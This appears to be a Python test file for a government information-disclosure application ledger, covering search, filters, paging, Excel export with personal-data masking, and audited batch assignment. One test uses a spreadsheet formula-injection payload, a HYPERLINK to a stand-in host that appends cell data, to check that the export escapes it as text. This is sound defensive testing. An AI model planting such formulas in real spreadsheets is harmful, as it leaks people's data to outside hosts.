"""The 台账: search (applicant, content, 查询码, 文号), filters, sort, pages, the Excel export with the filters
stated and personal data as the user may see it, and the batch assignment (all or none, audited)."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from gongkai_web.agencies.models import AuditEntry, Role, User
from gongkai_web.applications import services as s
from gongkai_web.applications.models import Application
from gongkai_web.letters.services import issue_letter
from web.factories import UserFactory, bulk_applications, make_application

pytestmark = pytest.mark.django_db
D = dt.date


def _as(client: Client, user: User) -> Client:
    client.force_login(user)
    return client


@pytest.fixture
def apps(frozen: object, staff: dict[str, User]) -> list[Application]:
    reg, handler, approver = staff[Role.REGISTRAR], staff[Role.HANDLER], staff[Role.APPROVER]
    a = make_application(reg, received_on=D(2024, 8, 1), applicant_name="赵六", content="城南地块出让合同")
    b = make_application(reg, received_on=D(2024, 9, 27), applicant_name="钱七", content="河道整治方案")
    c = make_application(reg, received_on=D(2024, 9, 30), applicant_name="孙八", content="城北规划批复")
    b = s.assign_handler(approver, b, expected_version=b.version, handler=handler)
    c = s.record_decision(approver, c, expected_version=c.version, date=D(2024, 10, 8), outcome="granted")
    return [a, b, c]


def codes(client: Client, **params: str) -> list[str]:
    page = client.get(reverse("applications:list"), params)
    assert page.status_code == 200
    return [x.tracking_code for x in page.context["page"].object_list]


def test_search_finds_name_content_code_and_letter_number(
    client: Client, apps: list[Application], handler: User, registrar: User
) -> None:
    a, b, c = apps
    _as(client, handler)
    assert codes(client, q="赵") == [a.tracking_code]
    assert codes(client, q="整治") == [b.tracking_code]
    assert codes(client, q=c.tracking_code.lower()) == [c.tracking_code]
    letter = issue_letter(registrar, b, "receipt")
    assert codes(client, q=letter.number[-6:]) == [b.tracking_code]


def test_filters_and_sort(client: Client, apps: list[Application], handler: User) -> None:
    a, b, c = apps
    _as(client, handler)
    assert codes(client, received_from="2024-09-01", received_to="2024-09-30", sort="received_on") == [
        b.tracking_code,
        c.tracking_code,
    ]
    assert codes(client, handler=str(handler.pk)) == [b.tracking_code]
    assert set(codes(client, handler="none")) == {a.tracking_code, c.tracking_code}
    assert codes(client, outcome="granted") == [c.tracking_code]
    assert codes(client, status="decided") == [c.tracking_code]
    assert codes(client, overdue="on") == [a.tracking_code]  # received 1 August: due 29 August
    assert codes(client, sort="-received_on") == [c.tracking_code, b.tracking_code, a.tracking_code]


def test_a_bad_filter_is_a_form_error_not_a_crash(
    client: Client, apps: list[Application], handler: User
) -> None:
    _as(client, handler)
    page = client.get(reverse("applications:list"), {"received_from": "2024-13-40", "sort": "evil"})
    assert page.status_code == 400 and "有效的日期" in page.text
    page = client.get(
        reverse("applications:list"), {"received_from": "2024-10-01", "received_to": "2024-09-01"}
    )
    assert page.status_code == 400 and "结束日期不能早于开始日期" in page.text


def test_pages(client: Client, frozen: object, agency: object, handler: User) -> None:
    bulk_applications(agency, 120, received_on=D(2024, 9, 27), due_on=D(2024, 10, 30))  # type: ignore[arg-type]
    _as(client, handler)
    first = codes(client)
    third = codes(client, page="3")
    assert len(first) == 50 and len(third) == 20 and not set(first) & set(third)
    assert "共 120 条" in client.get(reverse("applications:list")).text


def test_export_states_the_filters_and_every_field(
    client: Client, apps: list[Application], handler: User
) -> None:
    c = apps[2]
    _as(client, handler)
    r = client.get(reverse("applications:export"), {"received_from": "2024-09-01", "q": "城"})
    assert r.status_code == 200 and r["Content-Type"].endswith("spreadsheetml.sheet")
    ws = load_workbook(io.BytesIO(r.content)).active
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    assert rows[0][0] == "政府信息公开申请台账"
    assert rows[2][1] == "搜索：城；收到日期自：2024-09-01"
    assert rows[3][:2] == ["申请件数", 1]
    header = rows[5]
    assert {"查询码", "申请人姓名或名称", "证件号码", "联系电话", "办理结果", "答复期限", "文书文号"} <= set(
        header
    )
    record = dict(zip(header, rows[6], strict=True))
    assert record["查询码"] == c.tracking_code and record["申请人姓名或名称"] == "孙八"
    assert record["联系电话"] == "13800000000" and record["办理结果"] == "（一）予以公开"
    entry = AuditEntry.objects.get(action="export_ledger")
    assert entry.actor == handler and entry.after["rows"] == 1


def test_export_writes_typed_text_that_looks_like_a_formula_as_text(
    client: Client, frozen: object, staff: dict[str, User]
) -> None:
    hostile = '=HYPERLINK("http://example.invalid/?"&B7,"查看")'
    make_application(
        staff[Role.REGISTRAR], received_on=D(2024, 8, 1), applicant_name="@SUM(1)", content=hostile
    )
    _as(client, staff[Role.HANDLER])
    ws = load_workbook(io.BytesIO(client.get(reverse("applications:export")).content)).active
    rows = [[c for c in row] for row in ws.iter_rows()]
    record = {h.value: c for h, c in zip(rows[5], rows[6], strict=True)}
    assert (record["申请内容"].value, record["申请内容"].data_type) == ("'" + hostile, "s")
    assert record["申请人姓名或名称"].value == "'@SUM(1)"
    assert rows[3][1].value == 1  # the count stays a number


def test_export_masks_personal_data_for_a_supervisor(
    client: Client, apps: list[Application], supervisor: User
) -> None:
    _as(client, supervisor)
    ws = load_workbook(io.BytesIO(client.get(reverse("applications:export")).content)).active
    text = "\n".join(str(c.value) for row in ws.iter_rows() for c in row if c.value is not None)
    assert "赵六" not in text and "13800000000" not in text and "赵**" in text and "138****0000" in text
    assert "申请人个人信息已按权限隐去" in text


def test_batch_assign_is_all_or_none_and_audited(
    client: Client, apps: list[Application], staff: dict[str, User]
) -> None:
    a, b, c = apps
    approver, handler = staff[Role.APPROVER], staff[Role.HANDLER]
    other = UserFactory(username="chengban2", agency=approver.agency, role=Role.HANDLER)
    _as(client, approver)
    url = reverse("applications:batch_assign")
    # c is decided: the whole batch is refused, a is not assigned either
    r = client.post(
        url, {"selected": [f"{a.pk}:{a.version}", f"{c.pk}:{c.version}"], "handler": other.pk}, follow=True
    )
    assert c.tracking_code in r.text and "本次未指定任何申请" in r.text
    assert Application.objects.get(pk=a.pk).handler is None
    # a stale version (b was changed after the page was shown)
    r = client.post(
        url,
        {"selected": [f"{a.pk}:{a.version}", f"{b.pk}:{b.version - 1}"], "handler": other.pk},
        follow=True,
    )
    assert "已被他人修改" in r.text and Application.objects.get(pk=a.pk).handler is None
    r = client.post(
        url, {"selected": [f"{a.pk}:{a.version}", f"{b.pk}:{b.version}"], "handler": other.pk}, follow=True
    )
    assert "已为 2 件申请指定承办人" in r.text
    assert {x.handler_id for x in Application.objects.filter(pk__in=[a.pk, b.pk])} == {other.pk}
    assert AuditEntry.objects.filter(action="assign", actor=approver).count() == 1 + 2  # the fixture's, and 2
    assert handler is not None


def test_batch_assign_needs_the_handle_permission(
    client: Client, apps: list[Application], staff: dict[str, User]
) -> None:
    a = apps[0]
    for role in (Role.REGISTRAR, Role.SUPERVISOR):
        _as(client, staff[role])
        r = client.post(
            reverse("applications:batch_assign"),
            {"selected": [f"{a.pk}:{a.version}"], "handler": staff[Role.HANDLER].pk},
        )
        assert r.status_code == 403
    assert Application.objects.get(pk=a.pk).handler is None


def test_batch_assign_only_to_the_agencys_own_people(
    client: Client, apps: list[Application], approver: User
) -> None:
    outsider = UserFactory(role=Role.HANDLER)
    a = apps[0]
    _as(client, approver)
    r = client.post(
        reverse("applications:batch_assign"),
        {"selected": [f"{a.pk}:{a.version}"], "handler": outsider.pk},
        follow=True,
    )
    assert "请勾选申请并选择本机构的承办人" in r.text
    assert Application.objects.get(pk=a.pk).handler is None
